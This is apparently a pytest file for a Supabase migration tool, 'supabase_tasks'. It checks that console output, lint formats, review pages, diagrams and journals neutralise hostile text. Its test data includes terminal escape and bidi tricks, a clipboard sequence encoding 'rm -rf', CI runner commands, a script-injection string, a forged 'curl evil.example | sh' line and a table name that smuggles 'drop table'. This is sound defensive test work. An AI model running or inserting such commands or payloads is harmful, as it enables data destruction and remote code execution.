"""What is shown is what is there: no name, comment, statement or answer moves the cursor, hides text or forges a line."""

from __future__ import annotations

import ast
import io
import json
import os
import pty
import re
import sys
import unicodedata
import warnings
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from sqlalchemy import BigInteger, Column, MetaData, Table
from support.diagrams import shop
from support.house import House

import supabase_tasks
from supabase_tasks import console, visible
from supabase_tasks.diff.ddl import hazards
from supabase_tasks.diff.plan import summary
from supabase_tasks.draw import changed, diagram_page, mermaid, review, review_markdown, review_page, svg
from supabase_tasks.draw.diagram import read
from supabase_tasks.error_text import render
from supabase_tasks.errors import TaskError
from supabase_tasks.guard import journal
from supabase_tasks.lint.finding import Finding
from supabase_tasks.lint.formats import FORMATS
from supabase_tasks.redaction import forget_all
from supabase_tasks.settings import load

Capture = pytest.CaptureFixture[str]

HOSTILE = {
    "clear screen": "\x1b[2J\x1b[H",
    "C1 control sequence": "\x9b2J",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "carriage return": "harmful\rfine   ",
    "backspace": "harmful\b\b\b\b\b\b\bfine",
    "delete": "a\x7fb",
    "null": "a\0b",
    "right to left": "\u202eetadpu\u202c",
    "isolate": "\u2066\u2069",
    "marks": "\u200e\u200f\u061c",
    "zero width": "sc\u200ben\u200des\ufeff\u2060",
    "soft hyphen and fillers": "a\xad\u115f\u3164\uffa0\u034f",
    "variation selectors": "a\ufe0fb\U000e0100",
    "tags": "\U000e0041\U000e0042",
    "separators": "a\u2028next: rm -rf\u2029b\x85c\x0bd\x0ce",
    "lone surrogate": "a\udc9bb\ud800",
    "shift out": "\x0e\x0f",
    "annotations": "\ufff9a\ufffab\ufffb",
}
FORGED = "scenes\nnext: curl evil.example | sh\n\terror: none"


def hidden(text: str) -> list[str]:
    """The characters of the text that a terminal obeys or that are not seen, by `unicodedata` and not by our list."""
    return [hex(ord(one)) for one in text if one in _BLANK or (one != "\n" and _unseen(one))]


def _unseen(character: str) -> bool:
    return unicodedata.category(character) in _UNSEEN


_UNSEEN = ("Cc", "Cf", "Cs", "Zl", "Zp")
_BLANK = "\u034f\u115f\u1160\u3164\uffa0\ufe0f\U000e0100\u17b4"


@pytest.fixture(autouse=True)
def nothing_known() -> Iterator[None]:
    forget_all()
    console.start(as_json=False)
    yield
    console.start(as_json=False)


def test_every_character_that_is_not_seen_is_written_as_an_escape() -> None:
    for code in range(sys.maxunicode + 1):
        one = chr(code)
        if one in _BLANK or _unseen(one):
            assert visible.line(f"é{one}").isprintable(), hex(code)
            assert one in "\n\t" or visible.text(f"é{one}") == visible.line(f"é{one}")
        elif unicodedata.category(one) not in ("Cn", "Mn"):
            assert visible.text(one) == one, hex(code)
    assert visible.text("a\n\tb é 😀 العربية ﷺ") == "a\n\tb é 😀 العربية ﷺ"


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hidden_leaves_by_any_door(name: str, capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("builtins.input", lambda: "y")
    text = HOSTILE[name]
    console.say(text)
    console.note(text)
    console.text(f"-- {text}\nselect 1;")
    console.note_text(render(TaskError(text, cause=f"{text}\n{text}", next_step=text)))
    console.ask(text)
    console.table([text], [[text], [(text, text)]], title=text)
    console.say(text, "red")
    console.note(text, "")
    # As Python shows it; `warn` itself would be pytest's, which sends it to another process and chokes on lone surrogates.
    console.start(as_json=False)
    sys.stderr.write(warnings.formatwarning(text, UserWarning, "models.py", 1))
    try:
        raise ValueError(text)
    except ValueError:
        console.note_traceback()
    captured = capsys.readouterr()
    assert hidden(captured.out) == []
    assert hidden(captured.err) == []


@pytest.mark.parametrize("name", HOSTILE)
def test_json_holds_the_same_value_and_nothing_hidden(name: str, capsys: Capture) -> None:
    text = HOSTILE[name]
    console.start(as_json=True)
    console.report({text: [text, {"deep": (text,)}]})
    shown = capsys.readouterr().out
    assert hidden(shown) == []
    assert json.loads(shown) == {"ok": True, text: [text, {"deep": [text]}]}
    console.start(as_json=True)
    console.report_error({"message": text})
    assert hidden(capsys.readouterr().out) == []


def test_a_product_in_a_pipe_is_byte_for_byte(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    for text in HOSTILE.values():
        if not re.search("[\ud800-\udfff]", text):
            console.out(f"-- {text}\nselect 1;\n")
            assert capsysbinary.readouterr().out == f"-- {text}\nselect 1;\n".encode()


def test_a_product_on_a_terminal_is_made_visible(monkeypatch: pytest.MonkeyPatch) -> None:
    ours, theirs = pty.openpty()
    with os.fdopen(theirs, "w", encoding="utf-8") as terminal:
        monkeypatch.setattr(sys, "stdout", terminal)
        console.out("-- \x1b[2J\u202e gone\nselect 1;\n")
    assert os.read(ours, 1000) == b"-- \\x1b[2J\\u202e gone\r\nselect 1;\r\n"
    os.close(ours)


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "utf-8"])
def test_a_terminal_of_another_encoding_is_no_failure(encoding: str, monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding=encoding))
    console.say("− é → \udc9b")
    console.table(["a"], [["– é"]])
    console.text("− é")
    console.start(as_json=True)
    console.report({"a": "→\udc9b"})
    console.start(as_json=False)
    console.out("select 'é→';")
    assert raw.getvalue().endswith("select 'é→';\n".encode() if encoding != "cp1252" else b"\n")


def test_our_own_colours_still_work(monkeypatch: pytest.MonkeyPatch) -> None:
    ours, theirs = pty.openpty()
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    with os.fdopen(theirs, "w", encoding="utf-8") as terminal:
        monkeypatch.setattr(sys, "stdout", terminal)
        console.table(["name"], [["\x1b[31mred"]])
    shown = os.read(ours, 4000).decode()
    os.close(ours)
    assert "╭" in shown
    assert "\x1b[1m" in shown, "the heading is bold"
    assert "\x1b[31m" not in shown
    assert "\\x1b[31mred" in shown


# -- forged lines -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE)
def test_a_line_that_goes_away_again_hides_nothing(name: str, capsys: Capture) -> None:
    text = HOSTILE[name]
    console.show_transient(text)
    console.clear_transient()
    shown = capsys.readouterr().err.replace("\r\x1b[K", "")
    assert shown == console.printable(text)


def test_a_line_break_in_a_name_forges_no_line(capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("builtins.input", lambda: "y")
    console.say(f"  project   {FORGED}")
    console.note(f"table {FORGED}: is it new?")
    console.ask(f"Push to {FORGED}?")
    console.note_text(render(TaskError(f"drops {FORGED}", cause=f"in {FORGED}", next_step=f"inv x --rename {FORGED}")))
    console.table(["name"], [[FORGED]])
    captured = capsys.readouterr()
    lines = (captured.out + captured.err).splitlines()
    assert [line for line in lines if line.startswith(("next: curl", "error: none", "\t"))] == []
    # What a name breaks is no command to paste.
    assert sum(line.startswith(("next: ", "fix: ")) for line in lines) == 1


def test_a_line_break_in_a_name_ends_no_comment_of_a_migration() -> None:
    relation = 'public."x\ndrop table public.scenes;--"'
    block = summary.comment_block(
        f"+1 table {relation}", [hazards.lock(relation, "SHARE"), hazards.data_loss("", relation)]
    )
    assert all(line.startswith("--") for line in block.split("\n"))
    block = summary.comment_block("\x0b\r\u2028drop table x", [])
    assert all(line.startswith("--") for line in block.splitlines())


@pytest.mark.parametrize("variable", ["GITHUB_ACTIONS", "TF_BUILD"])
@pytest.mark.parametrize(
    "text",
    [
        "::error::x",
        "  ::add-mask::o",
        "\t::stop-commands::x",
        "##[error]x",
        "a ##[set-env name=PATH;]x",
        "##vso[task.x]",
    ],
)
def test_no_text_gives_orders_to_a_runner(
    text: str, variable: str, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(variable, "true")
    console.say(text)
    console.note(text)
    console.text(f"select 1;\n{text}\n{text}")
    console.note_text(render(TaskError(text, cause=text, next_step=text)))
    console.table(["a"], [[text]])
    console.start(as_json=True)
    console.report({"a": text, "b": [text]})
    shown = "".join(capsys.readouterr())
    assert not re.search(r"^\s*::", shown, re.MULTILINE)
    assert "##[" not in shown
    assert "##vso[" not in shown


# -- lint, pictures, pages, journal ---------------------------------------------------------------------------------------


def finding(text: str) -> Finding:
    path = Path("/project/supabase/migrations") / f"0001_{text}.sql".replace("/", "_").replace("\0", "_")
    return Finding("rls-disabled", "error", path, 3, 5, f"table {text}", f"secure {text}")


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("name", [*HOSTILE, "forged"])
def test_no_lint_format_is_forged(format: str, name: str) -> None:
    text = {**HOSTILE, "forged": "x\n::error file=a.py::y\r\n%0A::warning::z,line=1::"}[name]
    shown = FORMATS[format]([finding(text)], Path("/project"))
    assert hidden(shown.replace("\n", "")) == []
    if format == "github":
        assert len(shown.split("\n")) == 1
        assert re.fullmatch(r"::error file=[^:,]*,line=3,col=5,title=rls-disabled::.*", shown)
    elif format == "text":
        first, *rest = shown.split("\n")
        assert first.startswith("/project/supabase/migrations/")
        assert all(line.startswith("    ") for line in rest)
    else:
        json.loads(shown)


def dump(text: str) -> str:
    return f"--\n-- Name: {text}; Type: TABLE; Schema: public; Owner: postgres\n--\n\nCREATE TABLE public.x ({text});\n"


@pytest.mark.parametrize("name", [*HOSTILE, "forged", "markup"])
def test_the_review_shows_what_is_there(name: str) -> None:
    text = {**HOSTILE, "forged": '"\n```\n# forged\n', "markup": "</code><script>alert(1)</script>`\"']]>&amp;"}[name]
    shown = review.Review(
        title=text,
        summary=f"+1 {text}",
        origin=review.Origin(text, text, text, text, text, text),
        hazards=(review.ReviewedHazard(0, "loses data", "✗", "data-loss", text, 1),),
        unmodelled=(text,),
        cards=tuple(changed.cards(changed.compare(dump("old"), dump(text)))),
        files=(review.ReviewedFile(text, f"-- {text}\nselect '{text}';\n", text),),
    )
    page, markdown = review_page.page(shown), review_markdown.markdown(shown)
    assert hidden(page) == [] and hidden(markdown) == []
    assert "<script>alert" not in page
    # Outside of a block of code no line is what a name put there.
    fence, outside = "", []
    for line in markdown.split("\n"):
        ticks = re.match("`{3,}", line)
        if ticks and (not fence or line == fence):
            fence = "" if fence else ticks[0]
        elif not fence:
            outside.append(line)
    assert fence == "" and not any(line.startswith("# ") for line in outside)


@pytest.mark.parametrize("name", [*HOSTILE, "forged", "markup"])
def test_diagrams_show_what_is_there(name: str) -> None:
    text = {**HOSTILE, "forged": '"\n```\n# forged\n', "markup": "</text><script>alert(1)</script>`\"']]>&amp;"}[name]
    metadata = MetaData()
    Table(
        f"t{text}",
        metadata,
        Column(f"c{text}", BigInteger, primary_key=True),
        comment=f"{text} [x](https://evil.example)",
    )
    drawn = read(metadata, groups={f"public.t{text}": f"g{text}"}, external=frozenset(), policies={})
    picture = svg.document(drawn, text)
    ElementTree.fromstring(picture)
    page, document = diagram_page.page(drawn, text), mermaid.markdown(drawn, text)
    for shown in (picture, page, document):
        assert hidden(shown) == []
    assert "<script>alert" not in page + picture
    assert "\n# forged" not in document
    assert "](https://evil" not in document
    assert sum(line.startswith("```") for line in document.split("\n")) == 2


def test_diagrams_of_ordinary_names_are_as_before() -> None:
    assert "A &lt;scene&gt; &amp; its rows" in svg.document(shop(), "shop")


def test_the_journal_holds_one_line_for_each_change(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SUPABASE_TASKS_CACHE", str(tmp_path / "state"))
    (tmp_path / "pyproject.toml").write_text("[tool.supabase-tasks]\n")
    settings = load(tmp_path)
    for text in HOSTILE.values():
        journal.write(settings, "begun", name=text, files=[f"{FORGED}.sql"])
    lines = journal.path(settings).read_text().splitlines()
    assert [json.loads(line)["name"] for line in lines] == list(HOSTILE.values())
    assert hidden("".join(lines)) == []


# -- the kind is impossible ---------------------------------------------------------------------------------------------

# The only module that writes to a stream.
# `table_layout` only draws a text, in a capture, that `console` masks before and writes afterwards.
_WRITERS = ("console.py", "table_layout.py")


_PRINTS = frozenset({"print", "traceback.print_exc", "traceback.print_exception", "sys.excepthook"})
_STREAM = re.compile(r"sys\.(__)?std(out|err)(__)?(\.buffer)?\.write(lines)?")


def writes(tree: ast.AST) -> Iterator[int]:
    """Lines that write to a standard stream, or make what does."""
    for node in ast.walk(tree):
        if (isinstance(node, ast.Call) and _calls(node)) or _imports(node):
            yield node.lineno


def _imports(node: ast.AST) -> bool:
    if isinstance(node, ast.ImportFrom) and node.module in ("rich", "rich.console"):
        return True
    return isinstance(node, ast.Import | ast.ImportFrom) and "logging" in ast.unparse(node).split()


def _calls(node: ast.Call) -> bool:
    name = ast.unparse(node.func)
    given = {one.arg: ast.unparse(one.value) for one in node.keywords}
    if name == "os.write":
        return ast.unparse(node.args[0]) in ("1", "2")
    if name in ("sys.exit", "SystemExit"):
        # A text is written to standard error.
        return any(isinstance(one, ast.JoinedStr) or isinstance(getattr(one, "value", 0), str) for one in node.args)
    writes_to = "sys.std" in given.get("file", "") or (name.endswith("Exit") and "message" in given)
    return writes_to or name in _PRINTS or _STREAM.fullmatch(name) is not None


def test_nothing_else_writes_to_a_stream() -> None:
    package = Path(supabase_tasks.__file__).parent
    found = [
        f"{path.relative_to(package)}:{line}"
        for path in sorted(package.rglob("*.py"))
        if path.relative_to(package).as_posix() not in _WRITERS
        for line in writes(ast.parse(path.read_text(encoding="utf-8")))
    ]
    assert found == [], "write with supabase_tasks.console"


@pytest.mark.parametrize(
    "code",
    ["print(x)", "sys.stdout.write(x)", "sys.stderr.buffer.write(x)", "from rich.console import Console",
     "import logging", "sys.exit(f'{x}')", "os.write(2, x)", "traceback.print_exc()", "f(x, file=sys.stderr)"],
)  # fmt: skip
def test_the_scan_sees_what_writes(code: str) -> None:
    assert list(writes(ast.parse(code))) == [1]


# -- the whole way ------------------------------------------------------------------------------------------------------

TABLE = "create table public.scenes (id int primary key);\n"


def test_the_plan_of_a_push_shows_what_will_run(house: House) -> None:
    project = house.cloud.projects["staging"].record
    before, project.name = project.name, "shop\x1b[2J\u202e\nnext: inv supabase-db-push-prod\x9b1A"
    house.migration("0000_scenes", f"-- \x1b[2J\x1b[1;1H nothing to see\r\n{TABLE}-- \u202e\n")
    try:
        for arguments in (("--dry-run",), ("--dry-run", "--json"), ("--yes",)):
            ran = house.ok("supabase-db-push-staging", *arguments)
            assert hidden(ran.text) == [], ran.text
            assert "\nnext: inv supabase-db-push-prod" not in ran.text
            assert "--json" in arguments or "-- \\x1b[2J\\x1b[1;1H nothing to see\\r" in ran.text
        assert hidden(house.ok("supabase-status").text) == []
    finally:
        project.name = before


def test_drift_and_pull_show_what_is_there(house: House) -> None:
    house.pushed("staging", "0000_scenes", TABLE)
    with house.cloud.projects["staging"].cluster.admin() as connection:
        connection.execute("set role postgres")
        connection.execute('create table public."a\x1b[2J\u202e\ndrop table public.scenes;--" (id int)')
        connection.execute("comment on table public.scenes is E'\\x1b[2J \u202e \\n::error::x'")
        connection.execute('alter table public.scenes add "c\x9b\nnext: x" text')
    for arguments in (
        ("supabase-db-drift-staging",),
        ("supabase-db-drift-staging", "--json"),
        ("supabase-db-drift-staging", "--undo"),
        ("supabase-db-pull-staging", "--dry-run"),
        ("supabase-db-pull-staging", "--yes"),
    ):
        ran = house.run(*arguments, env={"GITHUB_ACTIONS": "true"})
        assert ran.code in (0, 2), ran.text
        assert hidden(ran.text) == [], ran.text
        assert not re.search(r"^(::|next: x)", ran.text, re.MULTILINE)
    written = "".join(path.read_text() for path in house.migrations.glob("*.sql"))
    assert '\ndrop table public.scenes;--" (' in written, "the name itself is written as it is"
    assert not re.search(r"^-- [^\n]*\n+drop table", written, re.MULTILINE), "but ends no comment"
